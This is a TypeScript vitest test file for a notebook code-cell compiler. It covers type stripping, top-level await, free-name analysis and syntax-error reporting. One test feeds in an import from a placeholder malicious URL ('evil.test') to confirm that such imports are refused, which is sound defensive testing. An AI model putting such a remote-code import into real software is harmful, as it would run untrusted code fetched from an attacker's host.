import { describe, expect, it } from "vitest";
import type { AppError } from "../../errors";
import { analyseCell, compileCell } from "./compile";

const AsyncFunction = (async () => {}).constructor as new (
  ...args: string[]
) => (...values: unknown[]) => Promise<Record<string, unknown>>;

async function run(source: string, scope: Record<string, unknown> = {}) {
  const shown: unknown[] = [];
  const { body } = compileCell(source);
  const fn = new AsyncFunction(...Object.keys(scope), "display", body);
  const exported = await fn(...Object.values(scope), (value: unknown) => shown.push(value));
  return { exported, shown };
}

describe("compiling a code cell", () => {
  it("strips types and displays the last expression", async () => {
    const { exported, shown } = await run("const x: number = 2;\nx * 21");
    expect(exported).toEqual({ x: 2 });
    expect(shown).toEqual([42]);
  });

  it("awaits at the top level", async () => {
    const { exported } = await run("const value = await Promise.resolve(3);");
    expect(exported).toEqual({ value: 3 });
  });

  it("runs twice without a redeclaration error", async () => {
    const source = "const again = 1;";
    await run(source);
    await expect(run(source)).resolves.toMatchObject({ exported: { again: 1 } });
  });

  it("finds free names and leaves out locals, properties, parameters and labels", () => {
    const source = `
      const total = data.rows + Math.max(...list);
      function inner(a, { b = fallback }, ...rest) { const local = a + b + rest.length + later; var hoisted = 1; return local + hoisted; }
      const later = 1;
      outer: for (const row of rows) { if (row.skip) continue outer; try { use(row) } catch (problem) { report(problem) } }
      const { p, q: [r = other] } = thing;
      class Shape extends Base { side = unit; area() { return this.side } }
    `;
    expect(analyseCell(source)).toEqual({
      defines: ["total", "inner", "later", "p", "r", "Shape"],
      references: ["data", "Math", "list", "fallback", "rows", "use", "report", "other", "thing", "Base", "unit"],
    });
  });

  it("hoists var out of blocks but keeps let inside", () => {
    expect(analyseCell("{ var out = 1; let inside = 2; } out; inside;")).toEqual({
      defines: ["out"],
      references: ["inside"],
    });
  });

  it("names the line of a syntax error", () => {
    expect.assertions(2);
    try {
      compileCell("const a = 1;\nconst b = ;");
    } catch (error) {
      expect((error as AppError).code).toBe("code.syntax");
      expect((error as AppError).details["line"]).toBe(2);
    }
  });

  it("refuses imports by name", () => {
    expect(() => compileCell('import x from "https://evil.test/x.js"')).toThrow(/code\.syntax.*import/);
  });
});
